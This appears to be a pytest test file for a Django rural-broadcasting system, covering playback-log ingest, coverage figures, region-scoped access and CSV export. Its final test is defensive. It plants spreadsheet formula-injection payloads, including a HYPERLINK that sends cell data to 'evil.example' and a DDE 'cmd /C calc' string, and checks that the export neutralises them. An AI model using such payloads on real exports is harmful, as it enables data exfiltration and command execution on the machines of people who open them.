"""Playback logs (播出记录): stored once from the ingest worker, seen within one's regions, and the
coverage figures the reporting module reads."""

import csv
import io
import json
from collections.abc import Iterator
from datetime import date, datetime, time, timedelta
from typing import Any, cast

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from ruralcast.accounts.models import User
from ruralcast.broadcasting.figures import broadcast_coverage, programme_plays
from ruralcast.broadcasting.models import PlaybackLog
from ruralcast.broadcasting.programme import local_zone
from ruralcast.broadcasting.selectors import playlog_list
from ruralcast.messaging.ingest import IngestStats, ingest_batch
from ruralcast.regions.models import Region
from ruralcast.reporting.sources import figure_value
from ruralcast.terminals.services import terminal_register

pytestmark = pytest.mark.django_db

DAY = date(2026, 12, 2)


def at(hour: int, minute: int = 0) -> datetime:
    return datetime.combine(DAY, time(hour, minute), tzinfo=local_zone())


def line(slot: int, start: datetime, outcome: str = "played", **extra: Any) -> dict[str, Any]:
    return {
        "slot": slot, "schedule": 1, "item": 7, "title": "榕江新闻", "start": start.isoformat(),
        "started": start.isoformat() if outcome != "missed" else None, "ms": 60000 if outcome == "played" else 0,
        "outcome": outcome, "reason": "", "version": 12, **extra,
    }  # fmt: skip


def uplink(terminal: str, *lines: dict[str, Any]) -> tuple[str, bytes, datetime]:
    body = {"terminal": terminal, "logs": list(lines)}
    return (f"rc/v1/up/{terminal}/playlog", json.dumps(body).encode(), timezone.now())


@pytest.fixture
def logged(terminals) -> dict[str, Any]:
    """大十字: one terminal played the 07:00 news, the other missed it; 梨子园: its one terminal played it."""
    first, second = terminals["dashizi"]
    [third] = terminals["liziyuan"]
    ingest_batch(
        [
            uplink(first.code, line(1, at(7)), line(2, at(12), "interrupted", reason="preempted")),
            uplink(second.code, line(1, at(7), "missed", reason="audio_missing")),
            uplink(third.code, line(1, at(7))),
        ]
    )
    return {"first": first, "second": second, "third": third}


def test_logs_are_stored_once_even_when_a_terminal_sends_them_again(logged) -> None:
    first = logged["first"]
    assert PlaybackLog.objects.count() == 4
    stats = ingest_batch([uplink(first.code, line(1, at(7)), line(3, at(18)))])  # the first line again

    assert PlaybackLog.objects.count() == 5 and stats.written == 1
    log = PlaybackLog.objects.get(terminal_code=first.code, slot_id=1)
    assert (log.village_id, log.outcome, log.played_ms, log.version, log.title) == (
        first.village_id,
        "played",
        60000,
        12,
        "榕江新闻",
    )
    assert log.scheduled_start == at(7) and log.started_at == at(7)


def test_malformed_lines_and_unknown_terminals_are_dropped(terminals) -> None:
    terminal = terminals["dashizi"][0]
    stats = IngestStats()
    ingest_batch(
        [
            uplink(terminal.code, line(1, at(7), "sung"), {"slot": "x"}, line(2, at(8))),
            uplink("6522632100001099999999999"[:23], line(1, at(7))),
        ],
        stats=stats,
    )
    assert list(PlaybackLog.objects.values_list("slot_id", flat=True)) == [2]


def test_coverage_is_the_share_of_the_villages_terminals_that_played_each_entry(
    logged, guzhou: Region, dashizi: Region, rongjiang: Region, congjiang: Region
) -> None:
    # Entries: 大十字 07:00 (1 of 2 played: 50 %), 大十字 12:00 (0 of 2: 0 %), 梨子园 07:00 (1 of 1: 100 %).
    period = {"start": DAY, "end": DAY + timedelta(days=1)}
    assert broadcast_coverage(region_code=guzhou.code, **period) == 50.0
    assert broadcast_coverage(region_code=dashizi.code, **period) == 25.0
    assert programme_plays(region_code=rongjiang.code, **period) == 2
    assert broadcast_coverage(region_code=congjiang.code, **period) is None
    assert programme_plays(region_code=guzhou.code, start=DAY + timedelta(days=1), end=DAY + timedelta(days=2)) == 0
    # Registered with the reporting module.
    assert figure_value(code="broadcasting.coverage", region_code=guzhou.code, **period) == 50.0
    assert figure_value(code="broadcasting.plays", region_code=guzhou.code, **period) == 2.0


def test_logs_are_seen_only_within_ones_regions(
    logged, village_broadcaster: User, township_station_operator: User, neighbour_county_bureau_admin: User,
    dashizi: Region,
) -> None:  # fmt: skip
    assert {log.village_id for log in playlog_list(user=village_broadcaster)} == {dashizi.code}
    assert playlog_list(user=township_station_operator).count() == 4
    assert playlog_list(user=neighbour_county_bureau_admin).count() == 0
    assert playlog_list(user=township_station_operator, day=DAY, outcome="missed").count() == 1
    assert playlog_list(user=township_station_operator, day=DAY + timedelta(days=1)).count() == 0


def test_api_lists_logs_in_scope_and_refuses_a_bad_region(logged, village_broadcaster: User, dashizi: Region) -> None:
    client = Client()
    client.force_login(village_broadcaster)

    answer = client.get("/api/v1/broadcasting/playlogs", {"day": DAY.isoformat()})
    assert answer.status_code == 200
    items = answer.json()["items"]
    assert len(items) == 3 and {item["village"] for item in items} == {dashizi.code}
    assert {item["outcome"] for item in items} == {"played", "missed", "interrupted"}
    assert client.get("/api/v1/broadcasting/playlogs", {"region": "12"}).status_code == 400
    other = client.get("/api/v1/broadcasting/playlogs", {"terminal": logged["third"].code}).json()
    assert other["items"] == []  # 梨子园's terminal lies outside the broadcaster's village


def test_console_lists_filters_and_exports_logs_and_the_village_page_shows_coverage(
    logged, township_station_operator: User, dashizi: Region
) -> None:
    client = Client()
    client.force_login(township_station_operator)

    page = client.get("/broadcasting/playlogs/", {"region": dashizi.code, "day": DAY.isoformat()})
    assert page.status_code == 200 and page.content.count(b"data-outcome=") == 3
    export = client.get("/broadcasting/playlogs/", {"region": dashizi.code, "format": "csv"})
    assert export["content-type"].startswith("text/csv")
    rows = (
        b"".join(cast(Iterator[bytes], cast(StreamingHttpResponse, export).streaming_content))
        .decode("utf-8-sig")
        .strip()
        .splitlines()
    )
    assert len(rows) == 4 and logged["first"].code in rows[1] + rows[2] + rows[3]


def test_village_page_shows_who_played_past_entries(
    county_station_operator: User, rongjiang: Region, dashizi: Region, terminals, make_item, make_schedule,
    en_client: Client,
) -> None:  # fmt: skip
    news = make_item(rongjiang, 60, "县新闻")
    schedule = make_schedule(county_station_operator, rongjiang, [("07:00", news)])
    slot = schedule.slots.get()
    day = timezone.localdate() - timedelta(days=1)
    start = datetime.combine(day, time(7), tzinfo=local_zone())
    first, second = terminals["dashizi"]
    ingest_batch([uplink(first.code, line(slot.pk, start)), uplink(second.code, line(slot.pk, start, "missed"))])
    client = en_client
    client.force_login(county_station_operator)

    page = client.get("/broadcasting/effective/", {"village": dashizi.code, "day": day.isoformat()})

    assert page.status_code == 200
    html = page.content.decode()
    assert "1 of 2 terminals (50.0 %)" in html, html[html.find("data-effective") :][:1500]


def test_a_batch_costs_the_same_queries_for_one_terminal_or_many(terminals, dashizi: Region) -> None:
    many = [terminal_register(actor=None, village=dashizi).terminal for _ in range(20)]
    with CaptureQueriesContext(connection) as one:
        ingest_batch([uplink(terminals["dashizi"][0].code, line(1, at(7)))])
    with CaptureQueriesContext(connection) as twenty:
        ingest_batch([uplink(t.code, line(1, at(7)), line(2, at(12))) for t in many])
    assert PlaybackLog.objects.count() == 41
    assert len(twenty.captured_queries) == len(one.captured_queries)


def test_playlog_export_neutralises_formulas_a_terminal_put_in_title_and_reason(
    terminals, township_station_operator: User, dashizi: Region
) -> None:
    """Title and reason come from devices: a stolen terminal must not plant a formula in a county's export (item 16)."""
    first, _second = terminals["dashizi"]
    hostile_title = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
    ingest_batch(
        [uplink(first.code, line(1, at(7), "interrupted", title=hostile_title, reason="@SUM(1+1)*cmd|' /C calc'!A0"))]
    )
    client = Client()
    client.force_login(township_station_operator)

    export = client.get("/broadcasting/playlogs/", {"region": dashizi.code, "format": "csv"})

    text = b"".join(cast(Iterator[bytes], cast(StreamingHttpResponse, export).streaming_content)).decode("utf-8-sig")
    [row] = list(csv.reader(io.StringIO(text)))[1:]
    assert "'" + hostile_title in row
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in row
    assert not any(cell.startswith(("=", "@", "+", "-")) and not cell.lstrip("+-").isdigit() for cell in row)
